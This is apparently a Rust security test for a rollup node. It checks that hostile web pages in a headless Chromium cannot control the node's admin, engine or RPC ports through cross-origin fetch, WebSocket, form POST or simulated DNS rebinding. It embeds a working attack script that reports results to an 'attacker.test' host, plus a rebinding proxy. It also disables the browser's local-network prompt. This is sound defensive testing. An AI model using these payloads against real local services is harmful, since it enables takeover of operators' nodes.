//! Attacks by web pages in a real browser on the operator's machine.

use crate::{
    failover::{Node, SequencedRollup, until},
    support::free_port,
};
use alloy_primitives::{Address, U256};
use serde_json::Value;
use std::{
    fs,
    io::{self, BufReader, Write as _},
    net::{TcpListener, TcpStream},
    path::Path,
    process::{Command, Stdio},
    sync::mpsc::{Receiver, Sender, channel},
    thread,
};
use testkit::{Key, Timeout, read_http, say_skipped};

/// Host name of the attacker's site, which the browser resolves to this machine, as with an
/// attacker's DNS server.
const SITE: &str = "attacker.test";

/// Sends requests in each way that a page can, and reports the responses that it can read.
const SCRIPT: &str = r#"
const body = (method, params) => JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });
const within = (promise) => Promise.race([
    promise, new Promise((done) => setTimeout(() => done("no answer"), 3000)),
]);
const fetched = async (url, mode, text) => {
    const headers = mode == "no-cors" ? {} : { "content-type": "application/json" };
    try {
        const answer = await fetch(url, { method: "POST", mode, headers, body: text });
        return answer.type == "opaque" ? "opaque" : answer.status + " " + await answer.text();
    } catch (error) { return "unreadable"; }
};
const socket = (url, text) => new Promise((done) => {
    const it = new WebSocket(url);
    it.onopen = () => it.send(text);
    it.onmessage = (message) => done("socket " + message.data);
    it.onerror = () => done("no socket");
    it.onclose = () => done("no socket");
});
const form = (url, text) => {
    const it = document.createElement("form");
    const field = document.createElement("input");
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    Object.assign(it, { action: url, method: "POST", enctype: "text/plain", target: frame.name });
    // The text of a form ends with "=" and the value.
    [field.name, field.value] = [text.slice(0, -1) + ',"rest":"', '"}'];
    it.append(field);
    document.body.append(frame, it);
    it.submit();
};
(async () => {
    const said = [];
    for (const [host, port, method, params] of TARGETS) {
        const text = body(method, params);
        for (const mode of ["cors", "no-cors"]) {
            said.push([method, mode, await within(fetched(`http://${host}:${port}/`, mode, text))]);
        }
        said.push([method, "socket", await within(socket(`ws://${host}:${port}/`, text))]);
        form(`http://${host}:${port}/`, text);
    }
    await new Promise((done) => setTimeout(done, 500));
    await fetch("REPORT", { method: "POST", mode: "no-cors", body: JSON.stringify(said) });
})();
"#;

fn answer(mut stream: &TcpStream, text: &str) -> io::Result<()> {
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close";
    write!(stream, "{head}\r\nContent-Length: {}\r\n\r\n{text}", text.len())
}

/// Serves the attacker's site, which sends a page and receives its report; returns the port.
fn site(page: impl Fn(u16) -> String, reports: Sender<Value>) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let page = page(port);
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let Ok((first, body)) = read_http(&mut BufReader::new(&stream)) else { continue };
            if first.starts_with("POST /report ") {
                drop(reports.send(serde_json::from_slice(&body).unwrap()));
            }
            drop(answer(&stream, if first.starts_with("GET / ") { &page } else { "" }));
        }
    });
    port
}

/// Serves a page once and then forwards connections to a port of the node, which simulates DNS
/// rebinding; returns the port.
fn rebinding(page: impl Fn(u16) -> String, node: u16) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let page = page(port);
    thread::spawn(move || {
        let mut is_sent = false;
        for near in listener.incoming().flatten() {
            if !is_sent {
                is_sent = read_http(&mut BufReader::new(&near))
                    .is_ok_and(|(first, _)| first.starts_with("GET / "));
                drop(answer(&near, &page));
                continue;
            }
            let Ok(far) = TcpStream::connect(("127.0.0.1", node)) else { continue };
            for (from, to) in [(&near, &far), (&far, &near)] {
                let (mut from, mut to) = (from.try_clone().unwrap(), to.try_clone().unwrap());
                thread::spawn(move || {
                    drop(io::copy(&mut from, &mut to));
                    drop(to.shutdown(std::net::Shutdown::Write));
                });
            }
        }
    });
    port
}

/// Returns a page that sends requests to these hosts and ports, and reports to a port of the site.
fn page(targets: &Value, report: u16) -> String {
    let script = SCRIPT.replace("TARGETS", &targets.to_string());
    let script = script.replace("REPORT", &format!("http://{SITE}:{report}/report"));
    format!("<!doctype html><body><script>{script}</script></body>")
}

/// Opens a page in Chromium, and returns its report; `None` if there is no browser.
fn visit(folder: &Path, port: u16, reports: &Receiver<Value>) -> Option<Value> {
    for browser in ["chromium", "chromium-browser", "google-chrome"] {
        let profile = tempfile::tempdir_in(folder).unwrap();
        let started = Command::new(browser)
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            .args(["--disable-background-networking", "--no-first-run", "--disable-sync"])
            .args(["--disable-component-update", "--disable-quic"])
            // New versions ask the user before a page sends requests to the local machine; assume
            // that the user has agreed.
            .arg("--disable-features=LocalNetworkAccessChecks")
            .arg(format!("--host-resolver-rules=MAP {SITE} 127.0.0.1"))
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("--remote-debugging-port=0")
            .arg(format!("http://{SITE}:{port}/"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        let Ok(mut started) = started else { continue };
        let report = reports.recv_timeout(Timeout::LIMIT);
        drop(started.kill());
        drop(started.wait());
        return Some(report.unwrap());
    }
    say_skipped("pages of an attacker in a browser: no Chromium (Debian's `chromium`)");
    None
}

#[test]
fn web_pages_cannot_control_node() {
    let setup = SequencedRollup::new();
    let folder = setup.rollup.folder.path();
    let secret = folder.join("jwt.hex");
    fs::write(&secret, "5e".repeat(32)).unwrap();
    let (engine, port) = (free_port(), free_port());
    let address = format!("127.0.0.1:{engine}");
    let mut arguments = setup.with_keys();
    let secret = secret.display().to_string();
    arguments.extend(["--engine-addr", &address, "--jwt-secret", &secret]);
    let mut node = Node::new(&arguments, folder, port);
    let admin = node.admin_port;
    let attacks = |host: &str, of: [u16; 3]| {
        serde_json::json!([
            [host, of[0], "admin_stopSealing", []],
            [host, of[0], "rollup_demote", ["ws://127.0.0.1:1"]],
            [host, of[1], "engine_exchangeCapabilities", [[]]],
            [host, of[2], "eth_chainId", []],
        ])
    };
    let ports = [admin, engine, port];
    let (alice, bob) = (Key::named("alice"), Address::repeat_byte(0xb0));
    let (reports, received) = channel();

    // Send each request from another origin, by each host name of this machine, and from the node's
    // own origin by DNS rebinding.
    let of_site = |host: &'static str| move |own| page(&attacks(host, ports), own);
    let mut sites = vec![];
    for host in ["127.0.0.1", "localhost"] {
        sites.push(site(of_site(host), reports.clone()));
    }
    let report = sites[0];
    for target in ports {
        sites.push(rebinding(|own| page(&attacks(SITE, [own; 3]), report), target));
    }
    node.start(&["--role", "sequencer"]);
    for (nonce, site) in (0..).zip(sites) {
        let Some(report) = visit(folder, site, &received) else { return };
        let said = report.to_string();
        assert_eq!(report.as_array().unwrap().len(), 12, "{said}");
        assert!(!said.contains("result"), "a page could read an answer: {said}");
        assert_eq!(node.role(), "sequencer");
        node.send(&alice, nonce, bob);
        until("a block", || node.balance(bob) == U256::from(nonce + 1));
    }

    // An origin that the operator allows can read the public port only. An allowed host name
    // without an allowed origin does not suffice.
    node.kill();
    let origin = site(of_site("127.0.0.1"), reports);
    let bound = rebinding(|own| page(&attacks(SITE, [own; 3]), report), port);
    let allowed = format!("http://{SITE}:{origin}");
    let vhosts = format!("localhost,{SITE}");
    node.start(&["--role", "sequencer", "--http-cors", &allowed, "--http-vhosts", &vhosts]);
    let id = r#"\"result\":\"0x1f8f\""#;
    for site in [origin, bound] {
        let report = visit(folder, site, &received).unwrap();
        for entry in report.as_array().unwrap() {
            let (method, way, said) = (&entry[0], &entry[1], entry[2].to_string());
            let is_let_in = site == origin && method == "eth_chainId" && way != "no-cors";
            assert_eq!(said.contains(id), is_let_in, "{entry}");
        }
    }
    until("blocks", || node.role() == "sequencer");
}
